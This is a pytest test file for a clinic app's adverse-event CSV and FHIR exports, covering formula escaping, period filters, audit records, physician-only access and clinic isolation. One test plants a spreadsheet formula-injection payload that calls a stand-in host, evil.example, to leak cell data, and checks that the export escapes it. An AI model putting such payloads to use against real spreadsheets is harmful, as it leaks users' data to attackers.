"""The CSV export (content, formula safety, period) and both downloads' rights, audit and errors."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from mesoclinic.audit.models import AuditEvent
from mesoclinic.safety import export, fhir
from mesoclinic.safety.models import AdverseEvent
from mesoclinic.safety.tests.test_fhir import REPORTED, expose, make_event

URLS = ("safety:export-csv", "safety:export-fhir")


def rows(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def exports() -> Any:
    return AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT, object_type="adverse_event")


def test_one_row_per_event_with_labels_and_clinic_time(cast: Any) -> None:
    exposed = expose(cast)
    event = make_event(cast, sessions=[exposed.second, exposed.first], effect="infection",
                       infection="suspected", severity="severe",
                       seriousness=["hospitalisation", "disability"], expected=False,
                       action_taken="referred", outcome="sequelae",
                       resolved_on=date(2027, 3, 20), status="closed", closed_by=cast.physician,
                       closed_at=REPORTED)
    response = cast.client_for(cast.physician).get(reverse("safety:export-csv"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="adverse-events-20')
    assert response["Content-Disposition"].endswith('.csv"')
    assert response.content.decode().splitlines()[0] == ",".join(export.HEADER)
    n = exposed.first.session_number
    assert rows(response) == [{
        "event_id": str(event.public_id), "patient_id": str(cast.patient.public_id), "onset": "2027-03-01",
        "effect_code": "infection", "effect": "Infection", "infection": "Suspected", "severity": "Severe",
        "serious": "yes", "seriousness_criteria": "Hospitalisation; Disability or lasting damage",
        "expected": "no", "action_taken": "Referred", "outcome": "Recovered with lasting effects",
        "resolved_on": "2027-03-20", "status": "Closed", "session_numbers": f"{n}; {n + 1}",
        "session_ids": f"{exposed.first.public_id}; {exposed.second.public_id}",
        # The cell starts with a harmless lot number, so it needs no escape.
        "lots": ("HA-2291 (Hyaluronic acid 1.5%); +EVIL-1 (Hyaluronic acid 1.5%); "
                 "@AT-9 (Hyaluronic acid 1.5%)"),
        "reported_by": str(cast.physician), "reported_at": "2027-03-02T09:30:00+03:00",
    }]


def test_nothing_in_a_cell_runs_as_a_formula(cast: Any) -> None:
    exposed = expose(cast)
    make_event(cast, effect="other", other_effect='=HYPERLINK("http://evil.example/?"&A1,"Click")',
               onset=date(2027, 3, 1))
    make_event(cast, sessions=[exposed.second], onset=date(2027, 3, 2))  # only the "@AT-9" lot
    cast.physician.display_name = "+Dr. Plus"
    cast.physician.save(update_fields=["display_name"])
    typed, at_lot = rows(cast.client_for(cast.physician).get(reverse("safety:export-csv")))
    assert typed["effect"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert at_lot["lots"] == "'@AT-9 (Hyaluronic acid 1.5%)"
    assert at_lot["reported_by"] == "'+Dr. Plus"
    for row in (typed, at_lot):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())


def test_a_lot_number_starting_with_plus_is_escaped(cast: Any) -> None:
    exposed = expose(cast)
    # The first session drew on HA-2291 and +EVIL-1; left with +EVIL-1 alone, its cell starts with "+".
    event = make_event(cast, sessions=[exposed.first])
    exposed.first.components.filter(lot=exposed.lots[0]).delete()
    (row,) = rows(cast.client_for(cast.physician).get(reverse("safety:export-csv")))
    assert row["event_id"] == str(event.public_id)
    assert row["lots"] == "'+EVIL-1 (Hyaluronic acid 1.5%)"


def test_the_period_bounds_the_onset_inclusively(cast: Any) -> None:
    for day in (date(2027, 1, 31), date(2027, 2, 1), date(2027, 2, 28), date(2027, 3, 1)):
        make_event(cast, onset=day)
    client = cast.client_for(cast.physician)
    found = rows(client.get(reverse("safety:export-csv"), {"since": "2027-02-01", "until": "2027-02-28"}))
    assert [r["onset"] for r in found] == ["2027-02-01", "2027-02-28"]
    assert [r["onset"] for r in rows(client.get(reverse("safety:export-csv"), {"since": "2027-02-28"}))] \
        == ["2027-02-28", "2027-03-01"]
    assert len(rows(client.get(reverse("safety:export-csv"), {"until": "2027-01-31", "since": ""}))) == 1
    document = json.loads(client.get(reverse("safety:export-fhir"), {"until": "2027-02-01"}).content)
    assert [e["resource"]["date"] for e in document["entry"]] == ["2027-01-31", "2027-02-01"]


@pytest.mark.parametrize(("url", "extension"), [(URLS[0], "csv"), (URLS[1], "fhir.json")])
def test_the_file_is_named_with_the_clinics_date(cast: Any, time_machine: Any, url: str,
                                                 extension: str) -> None:
    # 22:30 in London is already the next day in Istanbul, the clinic's zone.
    time_machine.move_to(datetime(2027, 3, 1, 22, 30, tzinfo=UTC), tick=False)
    response = cast.client_for(cast.physician).get(reverse(url))
    assert response["Content-Disposition"] == f'attachment; filename="adverse-events-2027-03-02.{extension}"'


@pytest.mark.parametrize("url", URLS)
def test_each_export_is_audited_with_its_count_and_period(cast: Any, url: str) -> None:
    make_event(cast, onset=date(2027, 2, 3))
    make_event(cast, onset=date(2027, 2, 4))
    make_event(cast, onset=date(2027, 5, 1))
    response = cast.client_for(cast.physician).get(reverse(url),
                                                   {"since": "2027-02-01", "until": "2027-02-28"})
    assert response.status_code == 200
    audit = exports().get()
    kind = "CSV" if url.endswith("csv") else "FHIR"
    assert audit.detail == f"{kind}: 2 events, onset 2027-02-01 to 2027-02-28"
    assert audit.outcome == AuditEvent.Outcome.ALLOWED
    assert audit.clinic_id == str(cast.clinic.public_id)
    assert audit.username == cast.physician.username
    cast.client_for(cast.physician).get(reverse(url))
    assert exports().order_by("id").last().detail == f"{kind}: 3 events, onset any to any"


@pytest.mark.parametrize("url", URLS)
@pytest.mark.parametrize("role", ["nurse", "manager", "receptionist", "auditor"])
def test_only_physicians_export(cast: Any, url: str, role: str) -> None:
    make_event(cast, effect="other", other_effect="Metallic taste")
    response = cast.client_for(getattr(cast, role)).get(reverse(url))
    assert response.status_code == 403
    assert "Metallic taste" not in response.content.decode()
    refusal = exports().get()
    assert refusal.outcome == AuditEvent.Outcome.DENIED
    assert refusal.username == getattr(cast, role).username
    assert not exports().filter(outcome=AuditEvent.Outcome.ALLOWED).exists()


@pytest.mark.parametrize("url", URLS)
def test_a_visitor_is_sent_to_sign_in(cast: Any, url: str) -> None:
    response = Client().get(reverse(url))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("accounts:login"))
    assert not exports().filter(outcome=AuditEvent.Outcome.ALLOWED).exists()


@pytest.mark.parametrize("url", URLS)
def test_another_clinics_events_never_appear(cast: Any, url: str) -> None:
    ours = make_event(cast, effect="other", other_effect="Ours")
    theirs = make_event(cast, clinic=cast.sister, patient=cast.sister_patient,
                        reported_by=cast.sister_physician, effect="other", other_effect="Theirs")
    mine = cast.client_for(cast.physician).get(reverse(url)).content.decode()
    assert str(ours.public_id) in mine
    assert str(theirs.public_id) not in mine
    assert "Theirs" not in mine
    sister = cast.client_for(cast.sister_physician).get(reverse(url)).content.decode()
    assert str(theirs.public_id) in sister
    assert str(ours.public_id) not in sister
    assert str(cast.patient.public_id) not in sister


@pytest.mark.parametrize("url", URLS)
@pytest.mark.parametrize(("query", "named"), [
    ({"since": "2027-13-01"}, "since"), ({"since": "2027-02-30"}, "since"), ({"until": "tomorrow"}, "until"),
    ({"until": "20270201"}, "until"), ({"since": "2027-W05"}, "since"),
    ({"since": "2027-03-01", "until": "2027-02-01"}, "since")])
def test_a_bad_period_is_refused_and_nothing_exported(cast: Any, url: str, query: dict[str, str],
                                                      named: str) -> None:
    event = make_event(cast)
    response = cast.client_for(cast.physician).get(reverse(url), query)
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    text = response.content.decode()
    assert text.startswith(f"{named}:")
    assert str(event.public_id) not in text
    assert "Content-Disposition" not in response
    assert not exports().exists()


def _many(cast: Any, count: int) -> None:
    exposed = expose(cast)
    template = make_event(cast)
    events = AdverseEvent.objects.bulk_create([
        AdverseEvent(clinic=cast.clinic, patient=cast.patient, effect=template.effect, onset=template.onset,
                     severity="mild", expected=True, reported_by=cast.physician,
                     reported_at=template.reported_at) for _ in range(count - 1)])
    through = AdverseEvent.sessions.through
    through.objects.bulk_create([through(adverseevent_id=e.pk, treatmentsession_id=s.pk)
                                 for e in [template, *AdverseEvent.objects.exclude(pk=template.pk)]
                                 for s in (exposed.first, exposed.second)])
    assert len(events) == count - 1


def test_two_thousand_events_export_in_a_handful_of_queries(cast: Any, django_assert_max_num_queries: Any
                                                            ) -> None:
    _many(cast, 2000)
    with django_assert_max_num_queries(5):
        # The events, their sessions, the components with lots and products; the pack's revision.
        events = export.load(export.events_in_period(cast.clinic))
        out = io.StringIO()
        assert export.write_csv(events, out) == 2000
    with django_assert_max_num_queries(1):
        document = fhir.bundle(events)
    assert len(document["entry"]) == 2000
    assert len(document["entry"][0]["resource"]["suspectEntity"]) == 2 + 3
    assert out.getvalue().count("@AT-9") == 2000


@pytest.mark.parametrize("url", URLS)
def test_the_downloads_of_two_thousand_events_stay_a_handful_of_queries(
        cast: Any, url: str, django_assert_max_num_queries: Any) -> None:
    _many(cast, 2000)
    client = cast.client_for(cast.physician)
    client.get(reverse(url), {"until": "2000-01-01"})  # the session and caches warmed
    with django_assert_max_num_queries(12):
        response = client.get(reverse(url))
    assert response.status_code == 200
    assert exports().order_by("id").last().detail.endswith(": 2000 events, onset any to any")
